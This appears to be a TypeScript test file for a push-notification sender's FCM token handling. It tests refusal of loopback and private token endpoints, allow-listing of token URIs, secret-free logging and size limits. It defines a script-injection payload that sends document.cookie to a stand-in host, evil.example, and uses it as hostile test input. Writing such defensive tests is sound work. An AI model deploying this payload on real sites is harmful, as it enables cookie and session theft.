import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { GOOGLE_TOKEN_URIS } from '@beacon/outbound'
import { startFcmMock, type FcmMock } from '@beacon/testkit'
import { pino } from 'pino'
import t, { type Test } from 'tap'
import type { TokenEndpointPolicy } from '../../../src/config.js'
import type { ApplicationCredentials, FcmServiceAccount } from '../../../src/credentials.js'
import { createFcmSender } from '../../../src/senders/fcm/fcm-sender.js'
import type { SendOutcome } from '../../../src/senders/sender.js'

const HOSTILE = `<script>fetch('//evil.example/?'+document.cookie)</script>${'A'.repeat(2048)}`
let applicationIds = 0

/** A token endpoint of our own on 127.0.0.1: answers as told, counts the connections it accepts. */
async function tokenServer (t: Test, answer: { status: number, body: unknown }) {
  const server = createServer((req, res) => {
    req.resume()
    req.on('end', () => res.writeHead(answer.status, { 'content-type': 'application/json' }).end(JSON.stringify(answer.body)))
  })
  let connections = 0
  server.on('connection', () => { connections++ })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }))
  return { port: (server.address() as AddressInfo).port, connections: () => connections }
}

/** Sends one notification to one FCM device of an application whose service account names `tokenUri`. */
async function sendWith (t: Test, options: { fcm: FcmMock, account: FcmServiceAccount, policy: TokenEndpointPolicy, token?: string }) {
  const logs: Array<Record<string, unknown>> = []
  const log = pino({ level: 'debug' }, { write: (line: string) => { logs.push(JSON.parse(line)) } })
  const sender = createFcmSender({ url: new URL(options.fcm.endpoint), ca: Buffer.from(options.fcm.ca), requestTimeoutMs: 2000, concurrency: 4, tokenEndpoints: options.policy, log })
  t.teardown(() => sender.close())
  const credentials: ApplicationCredentials = {
    id: ++applicationIds, appId: '7', version: 1, apns: null, fcm: { projectId: options.account.project_id, serviceAccount: options.account }
  }
  const preparation = sender.prepare(credentials, { silent: false, priority: 'HIGH', body: { title: 'hello' } })
  if (!preparation.ok) throw new Error(preparation.reason)
  const [outcome] = await preparation.prepared.send([{ id: 1n, token: options.token ?? 'device:APA91b-token', platform: 'FCM', environment: null }])
  return { outcome: outcome as Exclude<SendOutcome, { kind: 'sent' }>, logs }
}

t.test('a token endpoint on a loopback or private address is refused at connect time, the named ones too', async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const server = await tokenServer(t, { status: 200, body: { access_token: 'ya29.x', expires_in: 3600 } })
  for (const host of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '[::1]']) {
    const tokenUri = `http://${host}:${server.port}/token`
    const account = { ...fcm.createServiceAccount({ projectId: 'p1' }), token_uri: tokenUri }
    const { outcome, logs } = await sendWith(t, { fcm, account, policy: { allowedUris: [new URL(tokenUri).href], allowPrivateNetworks: false } })
    t.match(outcome, { kind: 'credentials', reason: 'DestinationForbidden' }, host)
    t.match(logs.find((line) => line.msg === 'FCM access token not obtained'), { level: 40, projectId: 'p1', reason: 'DestinationForbidden', range: 'loopback' }, host)
  }
  t.equal(server.connections(), 0, 'the endpoint was never connected to')
  t.equal(fcm.log.length, 0, 'nothing was sent to FCM without a token')

  // Control: allowed, the same endpoint is reached and its token used.
  const account = { ...fcm.createServiceAccount({ projectId: 'p1' }), token_uri: fcm.tokenUri }
  const allowed = await sendWith(t, { fcm, account, policy: { allowedUris: [fcm.tokenUri], allowPrivateNetworks: true } })
  t.same(allowed.outcome, { kind: 'sent' })
  t.equal(fcm.tokensIssued, 1)
})

t.test('a token_uri outside FCM_TOKEN_URIS is never asked, whatever its address', async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const account = fcm.createServiceAccount({ projectId: 'p2' })
  const { outcome, logs } = await sendWith(t, { fcm, account, policy: { allowedUris: [...GOOGLE_TOKEN_URIS], allowPrivateNetworks: true } })
  t.match(outcome, { kind: 'credentials', reason: 'TokenUriForbidden' })
  t.match(logs.find((line) => line.msg === 'FCM access token not obtained'), { reason: 'TokenUriForbidden', tokenHost: `127.0.0.1:${fcm.port}` })
  t.equal(fcm.tokensIssued, 0)
})

t.test("the token endpoint's own words reach the log, never the reason", async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const refusing = await tokenServer(t, { status: 400, body: { error: HOSTILE, error_description: 'see <a href=//evil.example>here</a>' } })
  const tokenUri = `http://127.0.0.1:${refusing.port}/token`
  const account = { ...fcm.createServiceAccount({ projectId: 'p3' }), token_uri: tokenUri }
  const { outcome, logs } = await sendWith(t, { fcm, account, policy: { allowedUris: [tokenUri], allowPrivateNetworks: true } })
  t.match(outcome, { kind: 'credentials', reason: 'TokenEndpointRefused (HTTP 400)' })
  t.notOk(JSON.stringify(outcome).includes('evil.example'), 'not in the outcome at all, detail included')
  t.match(logs.find((line) => line.msg === 'FCM access token not obtained'),
    { level: 40, reason: 'TokenEndpointRefused (HTTP 400)', status: 400, upstreamError: HOSTILE, upstreamDescription: 'see <a href=//evil.example>here</a>' })
  t.notOk(JSON.stringify(logs).includes('assertion'), 'the signed assertion is never logged')

  const failing = await tokenServer(t, { status: 503, body: { error: 'backend down' } })
  const failingUri = `http://127.0.0.1:${failing.port}/token`
  const down = await sendWith(t, { fcm, account: { ...account, token_uri: failingUri }, policy: { allowedUris: [failingUri], allowPrivateNetworks: true } })
  t.match(down.outcome, { kind: 'retry', reason: 'TokenEndpointError (HTTP 503)' })

  const closedUri = 'http://127.0.0.1:1/token' // nothing listens on port 1
  const unreachable = await sendWith(t, { fcm, account: { ...account, token_uri: closedUri }, policy: { allowedUris: [closedUri], allowPrivateNetworks: true } })
  t.match(unreachable.outcome, { kind: 'retry', reason: 'TokenEndpointUnreachable' })
})

t.test("FCM's own words in a refusal are the detail, the reason is firebase-admin's code name", async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const account = fcm.createServiceAccount({ projectId: 'p4' })
  fcm.script('hostile:APA91b-token', { kind: 'refused', status: 400, text: HOSTILE })
  const { outcome } = await sendWith(t, { fcm, account, policy: { allowedUris: [fcm.tokenUri], allowPrivateNetworks: true }, token: 'hostile:APA91b-token' })
  t.same(outcome, { kind: 'rejected', reason: 'invalid-argument', detail: HOSTILE })
})

t.test('a token endpoint that answers without end, or drips, is cut; a listed URI in capitals is still plain http', async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  let drip: NodeJS.Timeout | undefined
  const server = createServer((req, res) => {
    req.resume()
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/json' })
      if (req.url === '/endless') res.write(`{"access_token":"${'x'.repeat(200 * 1024)}`) // and never ends
      else drip = setInterval(() => res.write(' '), 100) // a byte at a time, never idle long
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => { clearInterval(drip); server.closeAllConnections(); server.close(() => resolve()) }))
  const port = (server.address() as AddressInfo).port
  for (const path of ['/endless', '/drip']) {
    const tokenUri = `http://127.0.0.1:${port}${path}`
    const account = { ...fcm.createServiceAccount({ projectId: 'p5' }), token_uri: tokenUri }
    const { outcome } = await sendWith(t, { fcm, account, policy: { allowedUris: [tokenUri], allowPrivateNetworks: true } })
    t.match(outcome, { kind: 'retry', reason: 'TokenEndpointUnreachable' }, `${path}: the send goes on, retried later`)
  }
  // Written in capitals, a listed http URI is asked over http (before, https.request threw on it).
  const shouting = `HTTP://127.0.0.1:${fcm.port}${new URL(fcm.tokenUri).pathname}`
  const before = fcm.tokenRequests
  const account = { ...fcm.createServiceAccount({ projectId: 'p6' }), token_uri: shouting }
  const { outcome } = await sendWith(t, { fcm, account, policy: { allowedUris: [new URL(shouting).href], allowPrivateNetworks: true } })
  t.equal(fcm.tokenRequests, before + 1, 'HTTP:// in capitals reached the endpoint over http')
  // (The mock refuses the assertion: its audience is the URI as written, not the mock's own.)
  t.match(outcome, { reason: 'TokenEndpointRefused (HTTP 400)' })
})

t.test('a 200 without a usable token is an error, and the token it held is never logged', async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const SECRET = 'ya29.a0-secret-access-token'
  // An access token without expires_in: not used, and not written into the warning either.
  const server = await tokenServer(t, { status: 200, body: { access_token: SECRET, token_type: 'Bearer' } })
  const tokenUri = `http://127.0.0.1:${server.port}/token`
  const account = { ...fcm.createServiceAccount({ projectId: 'p7' }), token_uri: tokenUri }
  const { outcome, logs } = await sendWith(t, { fcm, account, policy: { allowedUris: [tokenUri], allowPrivateNetworks: true } })
  t.match(outcome, { kind: 'retry', reason: 'TokenEndpointError (HTTP 200)' })
  t.match(logs.find((line) => line.msg === 'FCM access token not obtained'), { level: 40, status: 200 })
  t.notOk(JSON.stringify(logs).includes(SECRET), 'the token is not in the log')
  t.notOk(JSON.stringify(outcome).includes(SECRET), 'nor in the outcome')
  t.equal(fcm.log.length, 0, 'nothing was sent with it')
})

t.test('an endless token answer is cut once it passes 64 KB, not read on until the deadline', async (t) => {
  const fcm = await startFcmMock()
  t.teardown(() => fcm.close())
  const server = createServer((req, res) => {
    req.resume()
    req.on('end', () => { res.writeHead(200, { 'content-type': 'application/json' }).write(`{"access_token":"${'x'.repeat(200 * 1024)}`) })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }))
  const tokenUri = `http://127.0.0.1:${(server.address() as AddressInfo).port}/token`
  const account = { ...fcm.createServiceAccount({ projectId: 'p8' }), token_uri: tokenUri }
  const { outcome, logs } = await sendWith(t, { fcm, account, policy: { allowedUris: [tokenUri], allowPrivateNetworks: true } })
  t.match(outcome, { kind: 'retry', reason: 'TokenEndpointUnreachable' })
  // Cut for its size (ETOOLARGE), not by the whole exchange's deadline (ETIMEDOUT).
  t.match(logs.find((line) => line.msg === 'FCM access token not obtained'), { err: { code: 'ETOOLARGE' } })
})
